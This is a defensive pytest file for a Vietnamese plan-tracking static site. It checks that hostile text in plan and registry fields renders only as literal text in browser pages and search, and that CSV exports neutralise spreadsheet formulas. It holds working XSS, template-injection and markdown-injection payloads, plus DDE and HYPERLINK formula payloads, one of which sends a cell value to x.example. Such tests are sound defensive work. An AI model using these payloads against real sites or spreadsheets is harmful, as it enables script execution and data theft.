"""Text copied from the web is shown as text: it never runs as script, never becomes a link, markup or a
template, on any page or in search results. Checked in headless Chromium on a real build.

The tiny project's plan and registry get the same hostile string in every text field a maintainer fills in,
each behind a label saying which field it is; then every page that shows them is opened in Chromium.
"""
from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

from conftest import PageWatch, run_generator, serve
from tiny_project import AS_OF, PLAN, build, tiny_project

PAYLOADS = [
    "<script>window.__pwned='script';alert('script')</script>",
    "<img src=x onerror=\"window.__pwned='img';alert('img')\">",
    "[bấm vào](javascript:window.__pwned='mdlink')",
    "![ảnh](javascript:window.__pwned='mdimg')",
    "<a href=\"javascript:window.__pwned='ahref'\">liên kết</a>",
    "\"><svg onload=\"window.__pwned='svg'\">",
    "</title><script>document.title='pwned'</script>",
    "{{ 7*7 }} {% if true %}jinja{% endif %}",
    "{: onclick=\"window.__pwned='attr'\" }",
    "*nghiêng* **đậm** `mã` <!-- chú thích -->",
]
HOSTILE = " ".join(PAYLOADS)
# Names and other short fields are limited to 300 characters (issue 11, item 15): they get the payloads aimed at
# HTML and attributes.
NAME_HOSTILE = " ".join(PAYLOADS[i] for i in (0, 1, 4, 5, 6))
NAME_FIELDS = {"issuer", "signer", "unresolved.name", "written.alias", "agency.name", "number", "type", "period"}
ADMONITION = '\n\n!!! danger "Tiêm mã"\n    nội dung tiêm\n\n'

# field label -> where it is written in the plan file
PLAN_FIELDS = ["title", "type", "number", "issuer", "signer", "period"]


def label(field: str) -> str:
    return f"NHAN-{field.upper().replace('.', '-').replace('_', '-')}"


def value(field: str) -> str:
    return f"{label(field)} {NAME_HOSTILE if field in NAME_FIELDS else HOSTILE}"


def poison(project: Path) -> None:
    plan_path = project / "content" / PLAN
    plan = yaml.safe_load(plan_path.read_text())
    for f in PLAN_FIELDS:
        plan[f] = value(f)
    plan["source"]["note"] = value("source.note")
    plan["baselines"][0]["change"] = value("baseline.change")
    plan["baselines"][0]["note"] = value("baseline.note")
    plan["objectives"][0]["text"] = value("objective.text")
    plan["groups"][0]["title"] = value("group.title")
    t0 = plan["tasks"][0]
    t0["text"] = value("task.text")
    t0["output"] = value("task.output")
    t0["deadline"] = value("task.deadline") + " Quý IV/2021"
    t0["note"] = value("task.note") + ADMONITION + "sau"
    plan["tasks"][1]["lead"] = [{"name": value("unresolved.name"), "unresolved": True}]
    plan["tasks"][1]["support"] = [value("written.alias")]
    plan_path.write_text(yaml.safe_dump(plan, allow_unicode=True, sort_keys=False))
    agencies_path = project / "content" / "registry" / "agencies" / "core.yml"
    registry = yaml.safe_load(agencies_path.read_text())
    so_noi_vu = registry["agencies"][0]
    so_noi_vu["name"] = value("agency.name")
    so_noi_vu["aliases"] = ["Sở Nội vụ"]
    registry["agencies"][1]["aliases"].append(value("written.alias"))
    agencies_path.write_text(yaml.safe_dump(registry, allow_unicode=True, sort_keys=False))
    # names the site shows in title="…" attributes (criterion and field links, the matrix)
    criteria_path = project / "content" / "registry" / "criteria" / "par-index.yml"
    criteria = yaml.safe_load(criteria_path.read_text())
    criteria["criteria"][0]["name"] = value("criterion.name")
    criteria_path.write_text(yaml.safe_dump(criteria, allow_unicode=True, sort_keys=False))
    fields_path = project / "content" / "registry" / "fields.yml"
    fields = yaml.safe_load(fields_path.read_text())
    fields["fields"][0]["name"] = value("field.name")
    fields_path.write_text(yaml.safe_dump(fields, allow_unicode=True, sort_keys=False))
    source = project / "content" / "sources" / "thu-nghiem-1-kh-ubnd-2021.txt"
    lines = source.read_text().split("\n")
    lines[13] = value("source.line")        # line 14, outside every task
    # the task lines say what the plan file says (validation compares a task with its source lines)
    lines[10] = (f"1.1. {t0['text']} Chủ trì: Sở Nội vụ. Phối hợp: Các sở, ban, ngành. Thời gian: {t0['deadline']}. "
                 f"Sản phẩm: {t0['output']}.")
    lines[11] = (f"1.2. Kiểm tra công tác CCHC. Chủ trì: {value('unresolved.name')}. Phối hợp: {value('written.alias')}. "
                 "Thời gian: Năm 2022.")
    source.write_text("\n".join(lines))


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    project = tiny_project(tmp_path_factory.mktemp("hostile"))
    poison(project)
    result = build(project)
    assert result.returncode == 0, result.stderr
    server, url = serve((project / "site").resolve())
    yield project / "site", url
    server.shutdown()


PAGES = {
    "ke-hoach/thu-nghiem-1-kh-ubnd-2021/": PLAN_FIELDS + ["source.note", "baseline.change", "baseline.note", "objective.text",
                                                          "group.title", "task.text", "task.output", "task.deadline",
                                                          "task.note", "unresolved.name", "agency.name"],
    "ke-hoach/thu-nghiem-1-kh-ubnd-2021/van-ban-goc/": ["source.line"],
    "co-quan/so-noi-vu/": ["agency.name"],
    # listings show a task's text shortened (its full row is on the plan page: issue 15): "task.text:short"
    "co-quan/so-noi-vu/quang-binh/": ["agency.name", "task.text:short", "task.deadline"],
    "tinh/quang-binh/": ["task.text:short", "baseline.change"],
    "han/quang-binh/": ["task.text:short", "task.deadline"],
    "chat-luong/thu-nghiem-1-kh-ubnd-2021/": ["unresolved.name"],
    "ke-hoach/": ["title"],
    "co-quan/": ["agency.name"],
    "": ["agency.name"],
    "linh-vuc/": [],
    "ma-tran/": [],
    "tim-nhiem-vu/": [],
}


def hover_and_focus_everything(watch: PageWatch) -> int:
    """Hover every element that carries a title and focus every focusable one, as a reader's mouse and
    keyboard would: a theme feature that turns a title into a tooltip (Material's content.tooltips renders it
    as HTML) or any script that reacts to hover or focus gets its chance to run what the text holds."""
    page = watch.page
    titled = page.locator("[title]")
    hovered = 0
    for i in range(titled.count()):
        element = titled.nth(i)
        if not element.is_visible():
            continue
        element.scroll_into_view_if_needed(timeout=2_000)
        element.hover(timeout=2_000, force=True)
        page.wait_for_timeout(30)
        hovered += 1
    focusable = page.locator("a[href], button, input, select, textarea, summary, [tabindex]")
    for i in range(focusable.count()):
        focusable.nth(i).evaluate("e => e.focus()")
    page.wait_for_timeout(200)
    return hovered


def assert_nothing_ran(watch: PageWatch) -> None:
    page = watch.page
    assert watch.dialogs == []
    assert page.evaluate("window.__pwned") is None
    assert page.title() != "pwned"   # the payload would set exactly this
    assert page.evaluate("document.querySelectorAll('[onerror],[onload],[onclick]').length") == 0
    assert page.evaluate("document.querySelectorAll('a[href^=\"javascript:\" i], img[src^=\"javascript:\" i]').length") == 0
    # an injected element, not text: the payload may only appear as the text of alt/title/aria-label
    assert page.evaluate("""[...document.querySelectorAll('svg, img')].filter(e => [...e.attributes].some(a =>
        !['alt', 'title', 'aria-label'].includes(a.name) && a.value.includes('pwned'))).length""") == 0
    assert page.evaluate("[...document.querySelectorAll('.admonition-title')].filter(e => e.textContent.includes('Tiêm mã')).length") == 0
    assert watch.page_errors == []


PLAN_PAGE = "ke-hoach/thu-nghiem-1-kh-ubnd-2021/"


@pytest.mark.parametrize("path", list(PAGES))
def test_hostile_text_is_shown_literally_and_runs_nothing(hostile_site, open_page, path):
    """On the plan page also: the page title shows the hostile plan title as text, and the names a reader sees as
    a tooltip (a written alias, a criterion) hold the hostile text, are hovered and focused, and run nothing
    (checked in this one load of the page: hovering every title is most of the test's cost)."""
    site, url = hostile_site
    watch = open_page(path, base=url)
    assert_nothing_ran(watch)
    if path == PLAN_PAGE:
        assert label("type") in watch.page.title()
        assert "<script>" in watch.page.title()
        titles = watch.page.eval_on_selector_all("[title]", "els => els.map(e => e.getAttribute('title'))")
        for field in ("written.alias", "criterion.name"):
            assert any(label(field) in t and "<img src=x onerror" in t for t in titles), field
    hovered = hover_and_focus_everything(watch)
    assert_nothing_ran(watch)
    if path == PLAN_PAGE:
        assert hovered >= len(titles) // 2
        assert watch.page.locator(".md-tooltip, .md-tooltip2").count() == 0   # no theme tooltip made of content
    text = watch.page.inner_text("article")
    flat = " ".join(text.split())
    from generator.site.render import short_text
    for field in PAGES[path]:
        shown = short_text(value(field[:-len(":short")])) if field.endswith(":short") else " ".join(value(field).split())
        assert shown in flat, f"{field} is not shown literally on /{path}"


def test_search_results_show_hostile_text_as_text(hostile_site, open_page):
    site, url = hostile_site
    watch = open_page("?q=NHAN-TASK-TEXT", base=url)
    page = watch.page
    page.wait_for_selector(".md-search-result__item", timeout=20_000)
    results = " ".join(page.inner_text(".md-search-result").split())
    assert "NHAN-TASK-TEXT" in results
    assert "<script>window.__pwned='script'" in results or "<img src=x onerror" in results
    assert_nothing_ran(watch)


# ---------------------------------------------------------------- downloads a spreadsheet opens

FORMULAS = {
    "text": '=HYPERLINK("http://x.example/?q="&A1,"bấm vào đây")',
    "output": "+cmd|' /C calc'!A0",
    "note": "-2+3+cmd|' /C calc'!A0",
    "unresolved": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory):
    project = tiny_project(tmp_path_factory.mktemp("formula"))
    plan_path = project / "content" / PLAN
    plan = yaml.safe_load(plan_path.read_text())
    t0, t1 = plan["tasks"][0], plan["tasks"][1]
    t0["text"], t0["output"], t0["note"] = FORMULAS["text"], FORMULAS["output"], FORMULAS["note"]
    t1["lead"] = [{"name": FORMULAS["unresolved"], "unresolved": True}]
    plan_path.write_text(yaml.safe_dump(plan, allow_unicode=True, sort_keys=False))
    source = project / "content" / "sources" / "thu-nghiem-1-kh-ubnd-2021.txt"
    lines = source.read_text().split("\n")           # the source says what the plan file says
    lines[10] = f"1.1. {FORMULAS['text']} Chủ trì: Sở Nội vụ. Phối hợp: Các sở, ban, ngành. Thời gian: Quý IV/2021. Sản phẩm: {FORMULAS['output']}."
    lines[11] = f"1.2. Kiểm tra công tác CCHC. Chủ trì: {FORMULAS['unresolved']}. Thời gian: Năm 2022."
    source.write_text("\n".join(lines))
    result = build(project)
    assert result.returncode == 0, result.stderr
    server, url = serve((project / "site").resolve())
    yield project / "site", url
    server.shutdown()


def csv_rows(path: Path) -> list[dict]:
    import csv
    import io
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_every_csv_neutralises_formulas_and_keeps_numbers(formula_site):
    site, _ = formula_site
    plan_id = PLAN.split("/")[1][:-4]
    tasks = {r["id"].split("/")[1]: r for r in csv_rows(site / "data" / "tasks.csv")}
    # the provinces' CSVs, from which every listing's download is made in the browser (issue 15)
    listing = {r["id"].split("/")[1]: r for f in (site / "data" / "csv" / "tinh").glob("*.csv") for r in csv_rows(f)
               if r["plan"] == plan_id}
    for rows in (tasks, listing):
        assert rows["t-1.1"]["text"] == "'" + FORMULAS["text"]
        assert rows["t-1.1"]["output"] == "'" + FORMULAS["output"]
        assert rows["t-1.2"]["lead"] == "'" + FORMULAS["unresolved"]
        assert rows["t-1.1"]["field"] == "1" and rows["t-1.1"]["source_lines"] == "11-11"   # numbers stay numbers
    written = [r["written"] for r in csv_rows(site / "data" / "assignments.csv")]
    assert "'" + FORMULAS["unresolved"] in written and FORMULAS["unresolved"] not in written
    # no cell of any CSV the site offers starts a formula
    for path in site.rglob("*.csv"):
        for row in csv_rows(path):
            for col, cell in row.items():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, col, cell)
                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (path.name, col, cell)
    # the JSON keeps the text as written
    import json
    records = {t["id"].split("/")[1]: t for t in json.loads((site / "data" / "tasks.json").read_text(encoding="utf-8"))}
    assert records["t-1.1"]["text"] == FORMULAS["text"]


def test_the_finders_csv_neutralises_formulas(formula_site, open_page):
    site, url = formula_site
    watch = open_page("tim-nhiem-vu/", base=url)
    page = watch.page
    page.wait_for_selector("#finder[data-ready='1']", timeout=30_000)
    with page.expect_download() as info:
        page.click(".finder-download")
    rows = {r["id"].split("/")[1]: r for r in csv_rows(Path(info.value.path()))}
    assert rows["t-1.1"]["text"] == "'" + FORMULAS["text"]
    assert rows["t-1.1"]["output"] == "'" + FORMULAS["output"]
    assert rows["t-1.2"]["lead"] == "'" + FORMULAS["unresolved"]
    assert rows["t-1.1"]["field"] == "1"
    assert watch.dialogs == [] and watch.page_errors == []


def test_a_control_character_in_a_source_text_is_shown_as_its_code_point_never_raw(tmp_path):
    """Sources are copies kept byte for byte, so an ESC or NUL in one is not refused: the source page shows it as
    "U+001B", and no page or feed of the build holds the raw character (issue 11, item 3)."""
    project = tiny_project(tmp_path / "project")
    source = project / "content" / "sources" / f"{Path(PLAN).stem}.txt"
    source.write_text(source.read_text(encoding="utf-8") + "Dòng có ký tự điều khiển: \x1b[31m đỏ \x00 hết.\n", encoding="utf-8")
    docs = tmp_path / "docs"
    result = run_generator("--content", str(project / "content"), "render", "--docs", str(docs), cwd=project,
                           env={"PYTHONPATH": str(project), "PORTAL_AS_OF": AS_OF})
    assert result.returncode == 0, result.stderr
    page = (docs / "ke-hoach" / Path(PLAN).stem / "van-ban-goc" / "index.md").read_text(encoding="utf-8")
    assert '<span class="ctrl">U+001B</span>[31m đỏ <span class="ctrl">U+0000</span> hết.' in page
    raw = [p.relative_to(docs).as_posix() for p in docs.rglob("*") if p.is_file()
           and p.suffix in (".md", ".xml", ".ics", ".json", ".csv") and re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", p.read_text(encoding="utf-8"))]
    assert raw == []
